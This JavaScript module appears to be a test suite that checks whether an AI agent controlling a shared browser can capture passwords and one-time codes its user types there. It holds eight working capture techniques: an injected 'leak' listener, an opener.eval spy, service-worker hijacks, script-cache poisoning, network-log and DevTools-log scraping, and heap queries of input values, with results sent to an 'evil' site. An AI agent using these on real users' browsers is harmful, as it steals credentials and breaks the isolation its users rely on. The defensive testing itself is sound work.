// What an agent may prepare in its browser before a claim, after the findings of an audit. Each gives
// what of it has been heard since, as text; each hears what is typed in the agent's own browser.

import { setTimeout as pause } from "node:timers/promises";
import { Cdp } from "./gate.mjs";
import { within } from "./part.mjs";

/** The agent as a plain client of its browser's port. */
export class PreparingAgent {
  static async join(rooms, cdp = rooms.world.remote.cdp) {
    const agent = new PreparingAgent();
    const version = await (await fetch(`${cdp}/json/version`)).json();
    Object.assign(agent, { rooms, cdp: await Cdp.open(version.webSocketDebuggerUrl) });
    return agent;
  }

  /** A page there, once it has loaded. */
  async open(url) {
    const { targetId } = await this.cdp.call("Target.createTarget", { url });
    const session = await this.attach(targetId);
    const loaded = `location.href !== "about:blank" && document.readyState === "complete"`;
    await this.until(url, () => this.run(loaded, session).catch(() => false));
    return { targetId, session };
  }

  async attach(targetId) {
    const { sessionId } = await this.cdp.call("Target.attachToTarget", { targetId, flatten: true });
    return sessionId;
  }

  async targets() {
    return (await this.cdp.call("Target.getTargets", { filter: [{}] })).targetInfos;
  }

  /** The session of the first target that `match` likes, once there is one. */
  async found(what, match) {
    const target = await this.until(what, async () => (await this.targets()).find(match));
    return this.attach(target.targetId);
  }

  run(expression, session) {
    return this.cdp.evaluate(expression, session);
  }

  until(what, look) {
    const seek = async () => {
      for (;;) {
        const found = await look();
        if (found) return found;
        await pause(50);
      }
    };
    return within(20_000, () => what, seek());
  }

  /** Types into that page's field, as its own user would. */
  async type(session, selector, text) {
    await this.cdp.call("Emulation.setFocusEmulationEnabled", { enabled: true }, session);
    await this.run(`document.querySelector(${JSON.stringify(selector)}).focus()`, session);
    await this.cdp.call("Input.insertText", { text }, session);
  }

  async stop() {
    this.cdp.close();
  }
}

/** Registers the site's worker, and waits until it is at work. */
const WORKER = `navigator.serviceWorker.register("/worker.js").then(() => navigator.serviceWorker.ready).then(async (r) => {
  while (r.active.state !== "activated") await new Promise((go) => setTimeout(go, 20));
  return true;
})`;

/**
 * Each is given the agent, the site and a text; it prepares, has the text typed in the agent's own
 * browser, and gives what tells all that was heard since.
 */
export const PREPARATIONS = {
  "a script in every new document, with a binding": async (agent, site, text) => {
    const { session } = await agent.open(site.url);
    await agent.cdp.call("Runtime.enable", {}, session);
    await agent.cdp.call("Runtime.addBinding", { name: "leak" }, session);
    const source = `addEventListener("input", (e) => globalThis.leak(e.target.value), true)`;
    await agent.cdp.call("Page.addScriptToEvaluateOnNewDocument", { source }, session);
    await agent.cdp.call("Page.enable", {}, session);
    const loaded = agent.cdp.event((e) => e.method === "Page.loadEventFired", "the page");
    await agent.cdp.call("Page.navigate", { url: site.url }, session);
    await loaded;
    await agent.type(session, "#password", text);
    return async () =>
      agent.cdp.heard.filter((word) => word.includes("Runtime.bindingCalled")).join("\n");
  },
  "another page of the site that writes into its opener": async (agent, site, text) => {
    const { session } = await agent.open(site.url);
    await agent.run(`void open("/report?ms=1000", "other")`, session);
    const other = await agent.found("the report", ({ url }) => url.includes("/report"));
    const spy = JSON.stringify(site.spy("window"));
    await agent.run(
      `void setInterval(() => { try { if (!opener.spied) { opener.spied = true; opener.eval(${spy}); } } catch {} }, 1)`,
      other,
    );
    await agent.until("the spy", () => agent.run("globalThis.spied === true", session));
    await agent.type(session, "#password", text);
    return stolen(agent, text);
  },
  "a worker's document in a frame of the same site": async (agent, site, text) => {
    const { session } = await agent.open(site.url);
    await agent.run(WORKER, session);
    const again = await agent.open(site.url);
    await agent.type(again.session, "#password", text);
    return stolen(agent, text);
  },
  "a worker's document in a frame of another site": async (agent, site, text) => {
    const { origin } = agent.rooms.sites.of("framed");
    const newFrame = async () => {
      const before = new Set((await agent.targets()).map(({ targetId }) => targetId));
      await agent.open(site.url);
      return agent.found(
        "the frame",
        ({ type, url, targetId }) =>
          type === "iframe" && url.startsWith(origin) && !before.has(targetId),
      );
    };
    // Registered in a frame: what is kept there is for this pair of sites.
    await agent.run(WORKER, await newFrame());
    const inner = await newFrame();
    await agent.until("its field", () =>
      agent.run(`document.querySelector("#code") !== null && document.scripts.length > 0`, inner),
    );
    await agent.run(
      `document.querySelector("#code").focus(), document.execCommand("insertText", false, ${JSON.stringify(text)})`,
      inner,
    );
    return stolen(agent, text);
  },
  "a script of the site's, answered once and kept in memory": async (agent, site, text) => {
    const { session } = await agent.open(site.url);
    const answer = {
      responseCode: 200,
      responseHeaders: [
        { name: "content-type", value: "text/javascript" },
        { name: "cache-control", value: "max-age=3600" },
      ],
      body: Buffer.from(site.spy("window")).toString("base64"),
    };
    const paused = agent.cdp.event((e) => e.method === "Fetch.requestPaused", "the request");
    await agent.cdp.call("Fetch.enable", { patterns: [{ urlPattern: "*otp.js" }] }, session);
    const load = `new Promise((r) => { const s = document.createElement("script"); s.src = "/otp.js"; s.onload = () => r(true); document.head.append(s); })`;
    const run = agent.run(load, session);
    const { params } = await paused;
    await agent.cdp.call(
      "Fetch.fulfillRequest",
      { requestId: params.requestId, ...answer },
      session,
    );
    await run;
    await agent.cdp.call("Fetch.disable", {}, session);
    const loaded = agent.cdp.event((e) => e.method === "Page.loadEventFired", "the page");
    await agent.cdp.call("Page.enable", {}, session);
    await agent.cdp.call("Page.navigate", { url: `${site.origin}/otp` }, session);
    await loaded;
    await agent.type(session, "#code", text);
    return stolen(agent, text);
  },
  "a log of the network, and a reload of what a form made": async (agent, site, text) => {
    const { session } = await agent.open(site.url);
    await agent.cdp.call("Network.enable", { maxPostDataSize: 1 << 16 }, session);
    await agent.cdp.call("Page.enable", {}, session);
    const reload = async () => {
      const loaded = agent.cdp.event((e) => e.method === "Page.loadEventFired", "the page");
      await agent.cdp.call("Page.reload", {}, session);
      await loaded;
    };
    await agent.type(session, "#password", text);
    const sent = agent.cdp.event((e) => e.method === "Page.loadEventFired", "the answer");
    await agent.run(`document.getElementById("go").click()`, session);
    await sent;
    return async () => {
      await reload();
      return agent.cdp.heard
        .filter((word) => word.includes("Network.requestWillBeSent"))
        .join("\n");
    };
  },
  "a DevTools window of the browser's own": async (agent, site, text) => {
    const { targetId, session } = await agent.open(site.url);
    const inspect = await agent.open("chrome://inspect/#devices");
    const isWindow = ({ type, url }) => type === "page" && url.startsWith("devtools:");
    const open = `chrome.send("inspect", ["local", ${JSON.stringify(targetId)}])`;
    const window = await agent.until("the window", async () => {
      await agent.run(open, inspect.session).catch(() => {});
      await pause(500);
      return (await agent.targets()).find(isWindow);
    });
    const inside = await agent.attach(window.targetId);
    const log = `(async () => {
      const { NetworkLog } = await import("devtools://devtools/bundled/models/logs/logs.js");
      const requests = NetworkLog.NetworkLog.instance().requests();
      return JSON.stringify(await Promise.all(requests.map(async (r) => [r.url(), await r.requestFormData()])));
    })()`;
    await agent.until("a log of the page", async () => {
      await agent.cdp.call("Page.reload", {}, session);
      await pause(300);
      return (await agent.run(log, inside).catch(() => "")).includes(site.url);
    });
    await agent.type(session, "#password", text);
    await agent.run(`document.getElementById("go").click()`, session);
    await agent.until("the form in its log", async () =>
      (await agent.run(log, inside)).includes(text),
    );
    return () => agent.run(log, inside);
  },
  "every input that a page still holds": async (agent, site, text) => {
    const { session } = await agent.open(`${site.origin}/otp`);
    await agent.type(session, "#code", text);
    await agent.run(`document.getElementById("form").remove()`, session);
    return () => inputsOf(agent);
  },
};

/** What the agent's listener was told since; the text must come first. */
async function stolen(agent, text) {
  const evil = agent.rooms.sites.of("evil");
  await evil.stole(text);
  return async () => evil.stolen.join("\n");
}

/** The values of all inputs in all pages, in a document or not. */
async function inputsOf(agent) {
  const pages = (await agent.targets()).filter(
    ({ type, url }) => type === "page" && url.startsWith("http"),
  );
  const values = [];
  for (const { targetId } of pages) {
    const session = await agent.attach(targetId);
    const ask = (method, params) => agent.cdp.call(method, params, session);
    const { result } = await ask("Runtime.evaluate", { expression: "HTMLInputElement.prototype" });
    const { objects } = await ask("Runtime.queryObjects", { prototypeObjectId: result.objectId });
    const { result: found } = await ask("Runtime.callFunctionOn", {
      objectId: objects.objectId,
      functionDeclaration: "function () { return this.map((input) => input.value); }",
      returnByValue: true,
    });
    values.push(...found.value);
  }
  return values.join("\n");
}
